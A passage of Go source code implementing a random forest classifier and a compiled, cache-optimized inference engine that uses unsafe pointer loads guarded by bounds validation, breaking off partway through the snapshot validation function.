	// Seed drives bootstrapping and feature subsampling. Each tree derives
	// its own RNG from (Seed, tree index), so a fitted forest is
	// bit-identical for a given seed regardless of Workers.
	Seed int64
	// Workers bounds tree-training concurrency (0 = GOMAXPROCS).
	Workers int

	ensemble []*DecisionTree
	fitted   bool

	// compiled, when non-nil, is the branch-minimal engine built by
	// Compile; Score/ScoreBatch route through it (bit-identical results,
	// see CompiledForest).
	compiled *CompiledForest
}

// NewRandomForest returns a forest with the scikit-learn-like defaults the
// paper's pipeline uses.
func NewRandomForest(seed int64) *RandomForest {
	return &RandomForest{Trees: 100, Seed: seed}
}

// Name implements Classifier.
func (f *RandomForest) Name() string { return "RF" }

// Fit trains the ensemble on bootstrap resamples of (X, y). Trees are
// independent given their per-tree RNG, so they are trained across Workers
// goroutines; results are deterministic for a fixed Seed whatever the
// worker count.
func (f *RandomForest) Fit(X [][]float64, y []int) error {
	d, err := validate(X, y)
	if err != nil {
		return err
	}
	if f.Trees == 0 {
		f.Trees = 100
	}
	maxFeatures := int(math.Sqrt(float64(d)))
	if maxFeatures < 1 {
		maxFeatures = 1
	}
	workers := f.Workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > f.Trees {
		workers = f.Trees
	}
	n := len(X)
	f.ensemble = make([]*DecisionTree, f.Trees)
	fitTree := func(t int) {
		rng := rand.New(rand.NewSource(treeSeed(f.Seed, t)))
		idx := make([]int, n)
		for i := range idx {
			idx[i] = rng.Intn(n)
		}
		tree := &DecisionTree{
			MaxDepth:       f.MaxDepth,
			MinSamplesLeaf: f.MinSamplesLeaf,
			MaxFeatures:    maxFeatures,
		}
		tree.fitIndexed(X, y, idx, rng)
		f.ensemble[t] = tree
	}
	if workers == 1 {
		for t := range f.ensemble {
			fitTree(t)
		}
	} else {
		var next atomic.Int64
		next.Store(-1)
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for {
					t := int(next.Add(1))
					if t >= f.Trees {
						return
					}
					fitTree(t)
				}
			}()
		}
		wg.Wait()
	}
	f.fitted = true
	f.compiled = nil // a refit invalidates any previously compiled engine
	return nil
}

// Compile builds the compiled inference engine for the fitted forest and
// routes Score/ScoreBatch through it. Results are bit-identical to the
// uncompiled walk; only speed changes. Fit invalidates the engine.
func (f *RandomForest) Compile() error {
	c, err := CompileForest(f)
	if err != nil {
		return err
	}
	f.compiled = c
	return nil
}

// Compiled returns the compiled engine, or nil before Compile.
func (f *RandomForest) Compiled() *CompiledForest { return f.compiled }

// treeSeed derives an independent per-tree RNG seed from the forest seed
// with a splitmix64 finalizer, decorrelating the tree streams.
func treeSeed(seed int64, tree int) int64 {
	z := uint64(seed) + (uint64(tree)+1)*0x9E3779B97F4A7C15
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return int64(z ^ (z >> 31))
}

// Score returns the mean positive probability across trees.
func (f *RandomForest) Score(x []float64) float64 {
	if !f.fitted || len(f.ensemble) == 0 {
		return 0
	}
	if f.compiled != nil {
		return f.compiled.Score(x)
	}
	sum := 0.0
	for _, t := range f.ensemble {
		sum += t.Score(x)
	}
	return sum / float64(len(f.ensemble))
}

// Predict implements Classifier.
func (f *RandomForest) Predict(x []float64) int {
	if f.Score(x) >= 0.5 {
		return Positive
	}
	return Negative
}

// ScoreBatch scores every row of X into out (len(out) must equal len(X)).
// Iteration is tree-major so each tree's flat node arrays stay hot in
// cache across the whole batch; per row the additions still happen in
// ensemble order, so every out[k] is bit-identical to Score(X[k]).
func (f *RandomForest) ScoreBatch(X [][]float64, out []float64) {
	if !f.fitted || len(f.ensemble) == 0 {
		for k := range out {
			out[k] = 0
		}
		return
	}
	if f.compiled != nil {
		f.compiled.ScoreBatch(X, out)
		return
	}
	for k := range out {
		out[k] = 0
	}
	for _, t := range f.ensemble {
		for k, x := range X {
			out[k] += t.Score(x)
		}
	}
	n := float64(len(f.ensemble))
	for k := range out {
		out[k] /= n
	}
}

// Importances returns the forest's per-feature Gini importances: the mean
// of the trees' normalized importances, normalized to sum to 1 (nil
// before Fit).
func (f *RandomForest) Importances() []float64 {
	if !f.fitted || len(f.ensemble) == 0 {
		return nil
	}
	var acc []float64
	for _, t := range f.ensemble {
		imp := t.Importances()
		if imp == nil {
			continue
		}
		if acc == nil {
			acc = make([]float64, len(imp))
		}
		for i, v := range imp {
			acc[i] += v
		}
	}
	return normalizeImportance(acc)
}
