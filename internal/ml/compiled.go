package ml

import (
	"errors"
	"fmt"
	"math"
	"unsafe"
)

// CompiledForest is an immutable, branch-minimal inference engine built
// from a fitted RandomForest at model-load time. It produces bit-identical
// scores and labels to the forest it was compiled from; only the memory
// layout and traversal change:
//
//   - Every tree's nodes live in one contiguous array in breadth-first
//     (per-depth) order with sibling children adjacent, so one node is one
//     16-byte load (12 when quantized) instead of five scattered slice
//     reads, and advancing is `child = kids + b` with a branchless compare.
//   - Leaves are marked with a NaN threshold and self-loop (kids points one
//     slot back, and `x <= NaN` is false for every x, so a finished row
//     keeps landing on its leaf). That removes the per-step "is this a
//     leaf" branch from the batch walk: each tree runs a fixed number of
//     steps equal to its depth, and four rows advance through the tree in
//     lockstep so their independent node loads overlap in the pipeline
//     instead of serializing on one row's pointer chain.
//   - Thresholds are quantized to float32 when every threshold in the
//     forest round-trips float64→float32→float64 exactly — the comparison
//     then uses the widened float32, which is the same IEEE value, so the
//     quantization error bound is zero by construction. Forests with any
//     non-round-tripping threshold keep the float64 layout.
//   - Trees whose depth is at most heapMaxDepth are padded to complete
//     binary trees in implicit heap layout (children of j at 2j+1, 2j+2):
//     no child indices are stored at all, and the walk ends in a leaf-table
//     lookup. Early leaves replicate their probability across every
//     descendant leaf slot, so any padded path lands on the right answer.
//   - Batch scoring tiles rows × trees: consecutive trees are grouped into
//     blocks whose nodes fit in L1/L2 (treeBlockBytes) and each row block
//     visits a whole tree block before moving on, so node arrays are pulled
//     from memory once per row block instead of once per row.
//
// A CompiledForest may alias the arrays of an mmap'd model snapshot (see
// DecodeCompiled); Mapping returns the backing mapping so callers can pin
// it across a batch.
type CompiledForest struct {
	trees  []ctree
	blocks []int32 // tree-block boundaries: block b is trees[blocks[b]:blocks[b+1]]
	dim    int

	quantized bool

	// Compact trees (depth > heapMaxDepth). Exactly one of nodes/qnodes is
	// populated, per quantized. prob[i] is the leaf probability of node i
	// (meaningful only where the threshold is NaN).
	nodes  []cfNode
	qnodes []cfQNode
	prob   []float64

	// Heap (leaf-table) trees: parallel internal-node arrays plus the leaf
	// probability table. One of hThr/hQThr is populated, per quantized.
	hThr  []float64
	hQThr []float32
	hFeat []uint16
	hProb []float64

	mapping *Mapping
}

// cfNode is one compact-layout node: 16 bytes, one cache line holds four.
// Internal: thr is the split threshold, kids the index of the left child
// (right child at kids+1), feat the feature compared. Leaf: thr is NaN
// (x <= NaN is false for every x, including NaN, so the fixed-depth batch
// walk self-loops via kids = self-1), and the probability lives in the
// parallel prob array.
type cfNode struct {
	thr  float64
	kids int32
	feat uint16
	_    uint16
}

// cfQNode is the quantized compact node: float32 threshold, 12 bytes.
type cfQNode struct {
	thr  float32
	kids int32
	feat uint16
	_    uint16
}

// ctree dispatches one tree of the compiled ensemble.
type ctree struct {
	// root is the node index of the tree's root (compact trees) or the base
	// index into hThr/hFeat (heap trees).
	root uint32
	// leaf is the base index into hProb (heap trees only).
	leaf uint32
	// depth is the fixed step count of the batch walk.
	depth uint16
	// kind selects the layout.
	kind uint16
	_    uint32
}

const (
	treeCompact = 0
	treeHeap    = 1

	// heapMaxDepth is the deepest tree stored in padded heap layout:
	// 2^8 = 256 leaf slots and 255 internal nodes per tree.
	heapMaxDepth = 8

	// treeBlockBytes sizes a tree block: consecutive trees whose node
	// arrays together stay within the L1/L2 working set while a row block
	// streams through them.
	treeBlockBytes = 192 << 10

	// rowBlock is the row-tile size of the batch walk.
	rowBlock = 64
)

// ErrNotCompilable reports a forest whose thresholds cannot be represented
// by the compiled layout (non-finite splits).
var ErrNotCompilable = errors.New("ml: forest is not compilable")

// CompileForest compiles a fitted RandomForest into its branch-minimal
// inference form. The compiled forest is verified bit-identical to the
// source ensemble by construction: same tree shapes, same IEEE threshold
// values, same leaf probabilities, and the same ascending-tree summation
// order in Score/ScoreBatch.
func CompileForest(f *RandomForest) (*CompiledForest, error) {
	if f == nil || !f.fitted || len(f.ensemble) == 0 {
		return nil, ErrNotFitted
	}
	c := &CompiledForest{trees: make([]ctree, 0, len(f.ensemble))}

	// Pass 1 — validate splits, find the feature dimension, and decide
	// quantization: float32 thresholds are used only when every threshold
	// in the forest round-trips exactly, which keeps the comparison values
	// identical and the quantization error at zero.
	quantized := true
	for _, t := range f.ensemble {
		if err := walkSplits(t.root, &quantized, &c.dim); err != nil {
			return nil, err
		}
	}
	c.quantized = quantized
	if c.dim == 0 {
		c.dim = 1 // all-leaf ensemble; the batch kernels still probe x[0]
	}

	// Pass 2 — lay the trees out.
	for _, t := range f.ensemble {
		if t.root == nil {
			return nil, ErrNotCompilable
		}
		d := t.Depth()
		if d <= heapMaxDepth {
			c.appendHeapTree(t.root, d)
		} else {
			c.appendCompactTree(t.root, d)
		}
	}
	c.buildBlocks()
	return c, nil
}

// walkSplits validates that every split threshold is finite and its
// feature index fits the node encoding, tracks the feature dimension, and
// records whether all thresholds survive float32 round-tripping.
func walkSplits(n *treeNode, quantized *bool, dim *int) error {
	if n == nil || n.left == nil {
		return nil
	}
	if math.IsNaN(n.threshold) || math.IsInf(n.threshold, 0) {
		return fmt.Errorf("%w: non-finite split threshold %v", ErrNotCompilable, n.threshold)
	}
	if n.feature < 0 || n.feature > 0xFFFF {
		return fmt.Errorf("%w: feature index %d out of range", ErrNotCompilable, n.feature)
	}
	if n.feature+1 > *dim {
		*dim = n.feature + 1
	}
	if float64(float32(n.threshold)) != n.threshold {
		*quantized = false
	}
	if err := walkSplits(n.left, quantized, dim); err != nil {
		return err
	}
	return walkSplits(n.right, quantized, dim)
}

// appendCompactTree emits one tree into the compact arrays in BFS order:
// nodes of each depth are contiguous and the two children of a split are
// adjacent, so the walk needs a single child index per node.
func (c *CompiledForest) appendCompactTree(root *treeNode, depth int) {
	base := len(c.prob)
	// BFS with explicit queue; queue entries remember the emitted slot so
	// parents can patch their kids index once children are placed.
	type slot struct {
		n  *treeNode
		at int32
	}
	emit := func(n *treeNode) int32 {
		at := int32(len(c.prob))
		if n.left == nil {
			// Leaf: NaN threshold marks it and forces b=1 in the branchless
			// step, so kids = self-1 self-loops the fixed-depth walk.
			if c.quantized {
				c.qnodes = append(c.qnodes, cfQNode{thr: float32(math.NaN()), kids: at - 1})
			} else {
				c.nodes = append(c.nodes, cfNode{thr: math.NaN(), kids: at - 1})
			}
			c.prob = append(c.prob, n.prob)
			return at
		}
		if c.quantized {
			c.qnodes = append(c.qnodes, cfQNode{thr: float32(n.threshold), feat: uint16(n.feature)})
		} else {
			c.nodes = append(c.nodes, cfNode{thr: n.threshold, feat: uint16(n.feature)})
		}
		c.prob = append(c.prob, 0)
		return at
	}
	queue := []slot{{n: root, at: emit(root)}}
	for len(queue) > 0 {
		s := queue[0]
		queue = queue[1:]
		if s.n.left == nil {
			continue
		}
		l := emit(s.n.left)
		r := emit(s.n.right)
		_ = r // r == l+1 by construction
		if c.quantized {
			c.qnodes[s.at].kids = l
		} else {
			c.nodes[s.at].kids = l
		}
		queue = append(queue, slot{n: s.n.left, at: l}, slot{n: s.n.right, at: l + 1})
	}
	c.trees = append(c.trees, ctree{
		root:  uint32(base),
		depth: uint16(depth),
		kind:  treeCompact,
	})
}

// appendHeapTree emits one shallow tree as a padded complete binary tree of
// the given depth in implicit heap layout. A leaf reached before the padded
// depth replicates its probability across every descendant leaf slot, so
// whatever the padded comparisons do, the walk lands on the right answer.
func (c *CompiledForest) appendHeapTree(root *treeNode, depth int) {
	base := len(c.hFeat)
	leafBase := len(c.hProb)
	internal := (1 << depth) - 1
	leaves := 1 << depth
	if c.quantized {
		c.hQThr = append(c.hQThr, make([]float32, internal)...)
	} else {
		c.hThr = append(c.hThr, make([]float64, internal)...)
	}
	c.hFeat = append(c.hFeat, make([]uint16, internal)...)
	c.hProb = append(c.hProb, make([]float64, leaves)...)

	setThr := func(j int, v float64) {
		if c.quantized {
			c.hQThr[base+j] = float32(v)
		} else {
			c.hThr[base+j] = v
		}
	}
	var fill func(n *treeNode, j, d int)
	fill = func(n *treeNode, j, d int) {
		if d == depth {
			c.hProb[leafBase+j-internal] = n.prob
			return
		}
		if n.left == nil {
			// Padding: keep descending with an arbitrary comparison; every
			// reachable leaf slot repeats this leaf's probability.
			setThr(j, math.NaN())
			fill(n, 2*j+1, d+1)
			fill(n, 2*j+2, d+1)
			return
		}
		setThr(j, n.threshold)
		c.hFeat[base+j] = uint16(n.feature)
		fill(n.left, 2*j+1, d+1)
		fill(n.right, 2*j+2, d+1)
	}
	fill(root, 0, 0)
	c.trees = append(c.trees, ctree{
		root:  uint32(base),
		leaf:  uint32(leafBase),
		depth: uint16(depth),
		kind:  treeHeap,
	})
}

// treeBytes approximates the node working set of tree t, used to size
// cache-resident tree blocks.
func (c *CompiledForest) treeBytes(i int) int {
	t := &c.trees[i]
	if t.kind == treeHeap {
		per := 10 // feat + f64 thr amortized
		if c.quantized {
			per = 6
		}
		return per * ((1 << t.depth) - 1)
	}
	// Node span: compact trees are emitted contiguously, so the next tree's
	// root (or the array end) bounds this one.
	end := len(c.prob)
	for j := i + 1; j < len(c.trees); j++ {
		if c.trees[j].kind == treeCompact {
			end = int(c.trees[j].root)
			break
		}
	}
	per := 16
	if c.quantized {
		per = 12
	}
	return per * (end - int(t.root))
}

// buildBlocks groups consecutive trees into blocks of at most
// treeBlockBytes of node data.
func (c *CompiledForest) buildBlocks() {
	c.blocks = c.blocks[:0]
	c.blocks = append(c.blocks, 0)
	bytes := 0
	for i := range c.trees {
		b := c.treeBytes(i)
		if bytes > 0 && bytes+b > treeBlockBytes {
			c.blocks = append(c.blocks, int32(i))
			bytes = 0
		}
		bytes += b
	}
	c.blocks = append(c.blocks, int32(len(c.trees)))
}

// Trees reports the ensemble size.
func (c *CompiledForest) Trees() int { return len(c.trees) }

// Quantized reports whether the forest uses the float32 threshold layout
// (chosen only when exact, see CompileForest).
func (c *CompiledForest) Quantized() bool { return c.quantized }

// Mapping returns the mmap'd snapshot backing this forest's arrays, or nil
// when the forest owns its memory. Callers sharing a mapping across
// goroutines should Retain it for the duration of use.
func (c *CompiledForest) Mapping() *Mapping { return c.mapping }

// Name implements Classifier.
func (c *CompiledForest) Name() string { return "RF" }

// Fit implements Classifier; a compiled forest is immutable.
func (c *CompiledForest) Fit(X [][]float64, y []int) error {
	return errors.New("ml: CompiledForest is read-only; fit a RandomForest and compile it")
}

// Predict implements Classifier.
func (c *CompiledForest) Predict(x []float64) int {
	if c.Score(x) >= 0.5 {
		return Positive
	}
	return Negative
}

// Score returns the mean positive probability across trees, bit-identical
// to the source RandomForest.Score (same per-tree leaves, same ascending
// summation order, same final division).
func (c *CompiledForest) Score(x []float64) float64 {
	if len(c.trees) == 0 {
		return 0
	}
	sum := 0.0
	for i := range c.trees {
		sum += c.scoreTree(&c.trees[i], x)
	}
	return sum / float64(len(c.trees))
}

// scoreTree walks one tree for one row with early leaf exit.
func (c *CompiledForest) scoreTree(t *ctree, x []float64) float64 {
	if t.kind == treeHeap {
		d := int(t.depth)
		j := 0
		if c.quantized {
			thr := c.hQThr[t.root:]
			feat := c.hFeat[t.root:]
			for s := 0; s < d; s++ {
				b := 1
				if x[feat[j]] <= float64(thr[j]) {
					b = 0
				}
				j = 2*j + 1 + b
			}
		} else {
			thr := c.hThr[t.root:]
			feat := c.hFeat[t.root:]
			for s := 0; s < d; s++ {
				b := 1
				if x[feat[j]] <= thr[j] {
					b = 0
				}
				j = 2*j + 1 + b
			}
		}
		return c.hProb[int(t.leaf)+j-((1<<t.depth)-1)]
	}
	j := int32(t.root)
	if c.quantized {
		nodes := c.qnodes
		for {
			n := nodes[j]
			if n.thr != n.thr { // NaN threshold marks a leaf
				return c.prob[j]
			}
			if x[n.feat] <= float64(n.thr) {
				j = n.kids
			} else {
				j = n.kids + 1
			}
		}
	}
	nodes := c.nodes
	for {
		n := nodes[j]
		if n.thr != n.thr {
			return c.prob[j]
		}
		if x[n.feat] <= n.thr {
			j = n.kids
		} else {
			j = n.kids + 1
		}
	}
}

// ScoreBatch scores every row of X into out (len(out) must equal len(X)),
// bit-identical to per-row Score: each out[k] accumulates trees in
// ascending ensemble order and is divided once at the end.
//
// The hot kernels use raw pointer loads with no per-step bounds checks.
// That is safe because (a) node and leaf indices were validated against
// array bounds when the forest was compiled or decoded (see validate),
// and (b) feature loads stay inside each row only if the row is at least
// dim wide — checked here, with any narrower batch routed through the
// fully bounds-checked fallback (which panics exactly where the reference
// walk would).
func (c *CompiledForest) ScoreBatch(X [][]float64, out []float64) {
	for k := range out {
		out[k] = 0
	}
	if len(c.trees) == 0 || len(X) == 0 {
		return
	}
	for _, x := range X {
		if len(x) < c.dim {
			c.scoreBatchSafe(X, out)
			return
		}
	}
	for rb := 0; rb < len(X); rb += rowBlock {
		re := rb + rowBlock
		if re > len(X) {
			re = len(X)
		}
		rows := X[rb:re]
		acc := out[rb:re]
		for b := 0; b+1 < len(c.blocks); b++ {
			for ti := c.blocks[b]; ti < c.blocks[b+1]; ti++ {
				t := &c.trees[ti]
				switch {
				case t.kind == treeHeap && c.quantized:
					c.walkHeapQ(t, rows, acc)
				case t.kind == treeHeap:
					c.walkHeap(t, rows, acc)
				case c.quantized:
					c.walkCompactQ(t, rows, acc)
				default:
					c.walkCompact(t, rows, acc)
				}
			}
		}
	}
	n := float64(len(c.trees))
	for k := range out {
		out[k] /= n
	}
}

// scoreBatchSafe is the fully bounds-checked batch path, used when some
// row is narrower than the model dimension; identical accumulation order.
func (c *CompiledForest) scoreBatchSafe(X [][]float64, out []float64) {
	for k, x := range X {
		sum := 0.0
		for i := range c.trees {
			sum += c.scoreTree(&c.trees[i], x)
		}
		out[k] = sum / float64(len(c.trees))
	}
}

// walkCompact advances four rows through one compact tree in lockstep for
// a fixed depth steps. The four cursors are independent, so their node
// loads overlap instead of serializing on one row's dependent-load chain;
// rows that reach a leaf early self-loop on it (NaN threshold compares
// false, kids points one slot back). Loads are raw pointers — indices were
// bounds-validated at compile/decode time, and ScoreBatch guarantees every
// row is at least dim wide.
func (c *CompiledForest) walkCompact(t *ctree, X [][]float64, out []float64) {
	nodes := unsafe.Pointer(&c.nodes[0])
	prob := unsafe.Pointer(&c.prob[0])
	root := uintptr(t.root)
	depth := int(t.depth)
	k := 0
	for ; k+4 <= len(X); k += 4 {
		p0 := unsafe.Pointer(&X[k][0])
		p1 := unsafe.Pointer(&X[k+1][0])
		p2 := unsafe.Pointer(&X[k+2][0])
		p3 := unsafe.Pointer(&X[k+3][0])
		j0, j1, j2, j3 := root, root, root, root
		for s := 0; s < depth; s++ {
			n0 := (*cfNode)(unsafe.Add(nodes, j0*16))
			n1 := (*cfNode)(unsafe.Add(nodes, j1*16))
			n2 := (*cfNode)(unsafe.Add(nodes, j2*16))
			n3 := (*cfNode)(unsafe.Add(nodes, j3*16))
			b0, b1, b2, b3 := uintptr(1), uintptr(1), uintptr(1), uintptr(1)
			if *(*float64)(unsafe.Add(p0, uintptr(n0.feat)*8)) <= n0.thr {
				b0 = 0
			}
			if *(*float64)(unsafe.Add(p1, uintptr(n1.feat)*8)) <= n1.thr {
				b1 = 0
			}
			if *(*float64)(unsafe.Add(p2, uintptr(n2.feat)*8)) <= n2.thr {
				b2 = 0
			}
			if *(*float64)(unsafe.Add(p3, uintptr(n3.feat)*8)) <= n3.thr {
				b3 = 0
			}
			j0 = uintptr(n0.kids) + b0
			j1 = uintptr(n1.kids) + b1
			j2 = uintptr(n2.kids) + b2
			j3 = uintptr(n3.kids) + b3
		}
		out[k] += *(*float64)(unsafe.Add(prob, j0*8))
		out[k+1] += *(*float64)(unsafe.Add(prob, j1*8))
		out[k+2] += *(*float64)(unsafe.Add(prob, j2*8))
		out[k+3] += *(*float64)(unsafe.Add(prob, j3*8))
	}
	for ; k < len(X); k++ {
		x := X[k]
		j := int32(t.root)
		nn := c.nodes
		for s := 0; s < depth; s++ {
			n := nn[j]
			b := int32(1)
			if x[n.feat] <= n.thr {
				b = 0
			}
			j = n.kids + b
		}
		out[k] += c.prob[j]
	}
}

// walkCompactQ is walkCompact over the quantized node layout. The float32
// threshold widens to the identical float64 value (quantization is only
// chosen when exact), so the comparison is unchanged.
func (c *CompiledForest) walkCompactQ(t *ctree, X [][]float64, out []float64) {
	nodes := unsafe.Pointer(&c.qnodes[0])
	prob := unsafe.Pointer(&c.prob[0])
	root := uintptr(t.root)
	depth := int(t.depth)
	k := 0
	for ; k+4 <= len(X); k += 4 {
		p0 := unsafe.Pointer(&X[k][0])
		p1 := unsafe.Pointer(&X[k+1][0])
		p2 := unsafe.Pointer(&X[k+2][0])
		p3 := unsafe.Pointer(&X[k+3][0])
		j0, j1, j2, j3 := root, root, root, root
		for s := 0; s < depth; s++ {
			n0 := (*cfQNode)(unsafe.Add(nodes, j0*12))
			n1 := (*cfQNode)(unsafe.Add(nodes, j1*12))
			n2 := (*cfQNode)(unsafe.Add(nodes, j2*12))
			n3 := (*cfQNode)(unsafe.Add(nodes, j3*12))
			b0, b1, b2, b3 := uintptr(1), uintptr(1), uintptr(1), uintptr(1)
			if *(*float64)(unsafe.Add(p0, uintptr(n0.feat)*8)) <= float64(n0.thr) {
				b0 = 0
			}
			if *(*float64)(unsafe.Add(p1, uintptr(n1.feat)*8)) <= float64(n1.thr) {
				b1 = 0
			}
			if *(*float64)(unsafe.Add(p2, uintptr(n2.feat)*8)) <= float64(n2.thr) {
				b2 = 0
			}
			if *(*float64)(unsafe.Add(p3, uintptr(n3.feat)*8)) <= float64(n3.thr) {
				b3 = 0
			}
			j0 = uintptr(n0.kids) + b0
			j1 = uintptr(n1.kids) + b1
			j2 = uintptr(n2.kids) + b2
			j3 = uintptr(n3.kids) + b3
		}
		out[k] += *(*float64)(unsafe.Add(prob, j0*8))
		out[k+1] += *(*float64)(unsafe.Add(prob, j1*8))
		out[k+2] += *(*float64)(unsafe.Add(prob, j2*8))
		out[k+3] += *(*float64)(unsafe.Add(prob, j3*8))
	}
	for ; k < len(X); k++ {
		x := X[k]
		j := int32(t.root)
		nn := c.qnodes
		for s := 0; s < depth; s++ {
			n := nn[j]
			b := int32(1)
			if x[n.feat] <= float64(n.thr) {
				b = 0
			}
			j = n.kids + b
		}
		out[k] += c.prob[j]
	}
}

// walkHeap advances four rows through one padded heap tree: children live
// at 2j+1 and 2j+2, so the walk is pure index arithmetic with no child
// pointers, ending in a leaf-table lookup. Depth-0 trees are a bare
// leaf-table read.
func (c *CompiledForest) walkHeap(t *ctree, X [][]float64, out []float64) {
	depth := int(t.depth)
	if depth == 0 {
		p := c.hProb[t.leaf]
		for k := range X {
			out[k] += p
		}
		return
	}
	thr := unsafe.Pointer(&c.hThr[t.root])
	feat := unsafe.Pointer(&c.hFeat[t.root])
	leaves := unsafe.Pointer(&c.hProb[t.leaf])
	off := uintptr((1 << depth) - 1)
	k := 0
	for ; k+4 <= len(X); k += 4 {
		p0 := unsafe.Pointer(&X[k][0])
		p1 := unsafe.Pointer(&X[k+1][0])
		p2 := unsafe.Pointer(&X[k+2][0])
		p3 := unsafe.Pointer(&X[k+3][0])
		var j0, j1, j2, j3 uintptr
		for s := 0; s < depth; s++ {
			f0 := uintptr(*(*uint16)(unsafe.Add(feat, j0*2)))
			f1 := uintptr(*(*uint16)(unsafe.Add(feat, j1*2)))
			f2 := uintptr(*(*uint16)(unsafe.Add(feat, j2*2)))
			f3 := uintptr(*(*uint16)(unsafe.Add(feat, j3*2)))
			b0, b1, b2, b3 := uintptr(1), uintptr(1), uintptr(1), uintptr(1)
			if *(*float64)(unsafe.Add(p0, f0*8)) <= *(*float64)(unsafe.Add(thr, j0*8)) {
				b0 = 0
			}
			if *(*float64)(unsafe.Add(p1, f1*8)) <= *(*float64)(unsafe.Add(thr, j1*8)) {
				b1 = 0
			}
			if *(*float64)(unsafe.Add(p2, f2*8)) <= *(*float64)(unsafe.Add(thr, j2*8)) {
				b2 = 0
			}
			if *(*float64)(unsafe.Add(p3, f3*8)) <= *(*float64)(unsafe.Add(thr, j3*8)) {
				b3 = 0
			}
			j0, j1, j2, j3 = 2*j0+1+b0, 2*j1+1+b1, 2*j2+1+b2, 2*j3+1+b3
		}
		out[k] += *(*float64)(unsafe.Add(leaves, (j0-off)*8))
		out[k+1] += *(*float64)(unsafe.Add(leaves, (j1-off)*8))
		out[k+2] += *(*float64)(unsafe.Add(leaves, (j2-off)*8))
		out[k+3] += *(*float64)(unsafe.Add(leaves, (j3-off)*8))
	}
	hthr := c.hThr[t.root:]
	hfeat := c.hFeat[t.root:]
	hleaves := c.hProb[t.leaf:]
	for ; k < len(X); k++ {
		x := X[k]
		j := 0
		for s := 0; s < depth; s++ {
			b := 1
			if x[hfeat[j]] <= hthr[j] {
				b = 0
			}
			j = 2*j + 1 + b
		}
		out[k] += hleaves[j-int(off)]
	}
}

// walkHeapQ is walkHeap over quantized thresholds.
func (c *CompiledForest) walkHeapQ(t *ctree, X [][]float64, out []float64) {
	depth := int(t.depth)
	if depth == 0 {
		p := c.hProb[t.leaf]
		for k := range X {
			out[k] += p
		}
		return
	}
	thr := unsafe.Pointer(&c.hQThr[t.root])
	feat := unsafe.Pointer(&c.hFeat[t.root])
	leaves := unsafe.Pointer(&c.hProb[t.leaf])
	off := uintptr((1 << depth) - 1)
	k := 0
	for ; k+4 <= len(X); k += 4 {
		p0 := unsafe.Pointer(&X[k][0])
		p1 := unsafe.Pointer(&X[k+1][0])
		p2 := unsafe.Pointer(&X[k+2][0])
		p3 := unsafe.Pointer(&X[k+3][0])
		var j0, j1, j2, j3 uintptr
		for s := 0; s < depth; s++ {
			f0 := uintptr(*(*uint16)(unsafe.Add(feat, j0*2)))
			f1 := uintptr(*(*uint16)(unsafe.Add(feat, j1*2)))
			f2 := uintptr(*(*uint16)(unsafe.Add(feat, j2*2)))
			f3 := uintptr(*(*uint16)(unsafe.Add(feat, j3*2)))
			b0, b1, b2, b3 := uintptr(1), uintptr(1), uintptr(1), uintptr(1)
			if *(*float64)(unsafe.Add(p0, f0*8)) <= float64(*(*float32)(unsafe.Add(thr, j0*4))) {
				b0 = 0
			}
			if *(*float64)(unsafe.Add(p1, f1*8)) <= float64(*(*float32)(unsafe.Add(thr, j1*4))) {
				b1 = 0
			}
			if *(*float64)(unsafe.Add(p2, f2*8)) <= float64(*(*float32)(unsafe.Add(thr, j2*4))) {
				b2 = 0
			}
			if *(*float64)(unsafe.Add(p3, f3*8)) <= float64(*(*float32)(unsafe.Add(thr, j3*4))) {
				b3 = 0
			}
			j0, j1, j2, j3 = 2*j0+1+b0, 2*j1+1+b1, 2*j2+1+b2, 2*j3+1+b3
		}
		out[k] += *(*float64)(unsafe.Add(leaves, (j0-off)*8))
		out[k+1] += *(*float64)(unsafe.Add(leaves, (j1-off)*8))
		out[k+2] += *(*float64)(unsafe.Add(leaves, (j2-off)*8))
		out[k+3] += *(*float64)(unsafe.Add(leaves, (j3-off)*8))
	}
	hthr := c.hQThr[t.root:]
	hfeat := c.hFeat[t.root:]
	hleaves := c.hProb[t.leaf:]
	for ; k < len(X); k++ {
		x := X[k]
		j := 0
		for s := 0; s < depth; s++ {
			b := 1
			if x[hfeat[j]] <= float64(hthr[j]) {
				b = 0
			}
			j = 2*j + 1 + b
		}
		out[k] += hleaves[j-int(off)]
	}
}

// validate checks every index the unsafe batch kernels will follow, so a
// decoded (possibly hostile or corrupt) snapshot can never drive a load
// outside the forest's arrays: ctree bases and spans, per-node child
// indices (including the NaN-leaf self-loop encoding), and feature
// indices against dim. Walk safety then follows by induction: every
// reachable next-index is itself in range.
func (c *CompiledForest) validate() error {
	if len(c.trees) == 0 {
		return fmt.Errorf("%w: empty ensemble", ErrSnapshotMalformed)
	}
	if c.dim < 1 || c.dim > 0x10000 {
		return fmt.Errorf("%w: feature dimension %d", ErrSnapshotMalformed, c.dim)
	}
	var nNodes int
	if c.quantized {
		if c.nodes != nil {
			return fmt.Errorf("%w: both node layouts present", ErrSnapshotMalformed)
		}
		nNodes = len(c.qnodes)
	} else {
		if c.qnodes != nil {
			return fmt.Errorf("%w: both node layouts present", ErrSnapshotMalformed)
		}
		nNodes = len(c.nodes)
	}
	if len(c.prob) != nNodes {
		return fmt.Errorf("%w: prob length %d != node count %d", ErrSnapshotMalformed, len(c.prob), nNodes)
	}
	nHeap := len(c.hThr)
	if c.quantized {
		nHeap = len(c.hQThr)
	}
	if len(c.hFeat) != nHeap {
		return fmt.Errorf("%w: heap threshold/feature length mismatch", ErrSnapshotMalformed)
	}
	for i := 0; i < nNodes; i++ {
		var thr float64
		var kids int32
		var feat uint16
		if c.quantized {
			n := c.qnodes[i]
			thr, kids, feat = float64(n.thr), n.kids, n.feat
		} else {
			n := c.nodes[i]
			thr, kids, feat = n.thr, n.kids, n.feat
		}
		if int(feat) >= c.dim {
			return fmt.Errorf("%w: node %d feature %d >= dim %d", ErrSnapshotMalformed, i, feat, c.dim)
		}
		if thr != thr { // leaf: b is always 1, the walk only follows kids+1
			if kids+1 < 0 || int(kids+1) >= nNodes {
				return fmt.Errorf("%w: leaf %d self-loop target out of range", ErrSnapshotMalformed, i)
			}
		} else if kids < 0 || int(kids)+1 >= nNodes {
			return fmt.Errorf("%w: node %d child index out of range", ErrSnapshotMalformed, i)
		}
	}
	for i := range c.trees {
		t := &c.trees[i]
		switch t.kind {
		case treeCompact:
